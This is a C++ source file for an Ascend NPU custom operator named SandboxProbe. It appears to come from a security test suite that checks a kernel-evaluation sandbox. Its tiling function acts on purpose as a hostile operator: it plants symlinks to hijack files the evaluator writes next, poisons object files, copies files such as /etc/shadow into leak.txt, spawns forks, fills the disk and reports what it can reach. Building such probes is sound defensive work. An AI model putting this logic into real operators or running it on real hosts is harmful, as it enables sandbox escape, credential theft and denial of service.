// SPDX-License-Identifier: MIT
//
// SandboxProbe, a hostile operator for tests/security: y = x on one core,
// while its tiling function, which runs inside the sandbox with the work
// directory as its current directory, does what the string attribute
// "action" says to whatever lies outside (the attribute "target", a path
// in the host's view):
//   plant_links  leaves links named like the files the evaluation writes
//                next (the next case's spec, the kernel's glue, the next
//                case's folder) pointing at target
//   poison       appends to every compiled object in the work directory
//   read         copies target (e.g. /etc/shadow) into the case's output
//                folder as leak.txt, if it can read it at all
//   report       writes what the sandbox lets it see and do to
//                probe-report.txt in the case's output folder
//   fork         forks target (a number) processes that sleep, and
//                writes how many it got to probe-report.txt
//   fill         writes target (a number) MiB into its work directory,
//                in files of 4 MiB
#include "sandbox_probe_tiling.h"
#include "register/op_def_registry.h"

#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

namespace optiling {
static void append(const char *path, const char *text)
{
	FILE *f = fopen(path, "a");
	if (f) {
		fputs(text, f);
		fclose(f);
	}
}

/* Can a connect(2) reach a unix socket at path? */
static bool socket_reachable(const char *path)
{
	struct sockaddr_un a = {};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	bool ok;

	if (fd < 0)
		return false;
	a.sun_family = AF_UNIX;
	snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
	ok = connect(fd, (struct sockaddr *)&a, sizeof(a)) == 0;
	close(fd);
	return ok;
}

static void act(const char *action, const char *target)
{
	if (strcmp(action, "plant_links") == 0) {
		for (int i = 0; i < 4; i++) {
			char name[64];
			snprintf(name, sizeof(name), "case_%d.json", i);
			unlink(name);
			symlink(target, name);
		}
		unlink("glue.cpp");
		symlink(target, "glue.cpp");
	} else if (strcmp(action, "poison") == 0) {
		DIR *d = opendir(".");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			size_t n = strlen(e->d_name);
			if (n > 2 && strcmp(e->d_name + n - 2, ".o") == 0)
				append(e->d_name, "POISON");
		}
		if (d)
			closedir(d);
	} else if (strcmp(action, "read") == 0) {
		char buf[4096];
		FILE *in = fopen(target, "r");
		size_t n = in ? fread(buf, 1, sizeof(buf) - 1, in) : 0;
		buf[n] = '\0';
		if (in)
			fclose(in);
		append("leak.txt", in ? buf : "unreadable\n");
	} else if (strcmp(action, "fork") == 0) {
		char line[64];
		int want = atoi(target), got = 0;
		for (int i = 0; i < want; i++) {
			pid_t pid = fork();
			if (pid == 0) {
				/* let go of the output pipes; the sandbox's end kills it */
				close(1);
				close(2);
				sleep(30);
				_exit(0);
			}
			got += pid > 0;
		}
		snprintf(line, sizeof(line), "forked %d of %d\n", got, want);
		append("probe-report.txt", line);
	} else if (strcmp(action, "fill") == 0) {
		static char block[1 << 20];
		int mib = atoi(target);
		memset(block, 'x', sizeof(block));
		for (int i = 0; i < mib; i++) {
			char name[64];
			snprintf(name, sizeof(name), "fill-%d.bin", i / 4);
			FILE *f = fopen(name, "a");
			if (!f)
				break;
			fwrite(block, 1, sizeof(block), f);
			fclose(f);
		}
	} else if (strcmp(action, "report") == 0) {
		char line[512];
		FILE *status = fopen("/proc/self/status", "r");
		while (status && fgets(line, sizeof(line), status))
			if (strncmp(line, "Cap", 3) == 0 || strncmp(line, "Uid", 3) == 0)
				append("probe-report.txt", line);
		if (status)
			fclose(status);
		snprintf(line, sizeof(line), "socket %s\n", socket_reachable(target) ? "reachable" : "unreachable");
		append("probe-report.txt", line);
		snprintf(line, sizeof(line), "shadow %s\n", access("/etc/shadow", R_OK) == 0 ? "readable" : "unreadable");
		append("probe-report.txt", line);
	}
}

static ge::graphStatus TilingFunc(gert::TilingContext *context)
{
	SandboxProbeTilingData tiling;
	const char *action = context->GetAttrs()->GetStr(0);
	const char *target = context->GetAttrs()->GetStr(1);

	act(action ? action : "", target ? target : "");
	tiling.set_total((uint32_t)context->GetInputShape(0)->GetStorageShape().GetShapeSize());
	context->SetBlockDim(1);
	tiling.SaveToBuffer(context->GetRawTilingData()->GetData(), context->GetRawTilingData()->GetCapacity());
	context->GetRawTilingData()->SetDataSize(tiling.GetDataSize());
	context->GetWorkspaceSizes(1)[0] = 0;
	return ge::GRAPH_SUCCESS;
}
} // namespace optiling

namespace ge {
static graphStatus InferShapeProbe(gert::InferShapeContext *context)
{
	*context->GetOutputShape(0) = *context->GetInputShape(0);
	return GRAPH_SUCCESS;
}
} // namespace ge

namespace ops {
class SandboxProbe : public OpDef {
public:
	explicit SandboxProbe(const char *name) : OpDef(name)
	{
		this->Input("x").ParamType(REQUIRED).DataType({ge::DT_FLOAT}).Format({ge::FORMAT_ND});
		this->Output("y").ParamType(REQUIRED).DataType({ge::DT_FLOAT}).Format({ge::FORMAT_ND});
		this->Attr("action").AttrType(OPTIONAL).String("");
		this->Attr("target").AttrType(OPTIONAL).String("");
		this->SetInferShape(ge::InferShapeProbe);
		this->AICore().SetTiling(optiling::TilingFunc).AddConfig("ascend910b");
	}
};
OP_ADD(SandboxProbe);
} // namespace ops
